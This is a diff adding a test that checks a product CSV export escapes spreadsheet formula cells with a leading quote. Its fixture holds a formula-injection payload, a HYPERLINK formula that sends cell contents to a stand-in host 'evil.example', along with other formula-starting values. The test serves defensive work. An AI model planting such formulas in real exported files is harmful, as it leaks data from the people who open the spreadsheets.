@@ -135,6 +135,38 @@ describe('GET /v1/exports/products', () => {
   });
 });
 
+describe('formula cells in the export', () => {
+  it('attack: text cells starting with =, +, -, @, a tab or a quote before them are exported with a leading quote, quoted; numbers are not', async () => {
+    // Prepare: a product whose text fields would run as formulas in a spreadsheet
+    const hostile = await newOrg('Exports Formula Org');
+    const product = await createProduct(hostile.live, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', brand: '+1', sku: '-x' });
+    await publish(hostile.live, product.productId, {
+      productType: 'wine',
+      vintage: 2021,
+      ingredients: ['@SUM(1+1)', 'grapes'],
+      origin: { country: 'FR', region: "'=already", designation: 'plain' },
+    });
+
+    // Act
+    const response = await call('GET', '/v1/exports/products?format=csv', { key: hostile.live });
+
+    // Assess: each hostile cell starts with one more quote and is written quoted; a plain cell and the number are not
+    expect(response.status, response.text).toBe(200);
+    const [row] = csvRecords(response.text);
+    expect(row).toMatchObject({
+      name: '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      brand: "'+1",
+      sku: "'-x",
+      'passport.ingredients': "'@SUM(1+1)|grapes",
+      'passport.origin.region': "''=already",
+      'passport.origin.designation': 'plain',
+      'passport.vintage': '2021',
+    });
+    expect(response.text).toContain(`,"'+1","'-x",`);
+    expect(response.text).toContain(`,"''=already",plain,`);
+  });
+});
+
 describe('the import template', () => {
   const examples = IMPORT_COLUMNS.map((column) => column.example);
 
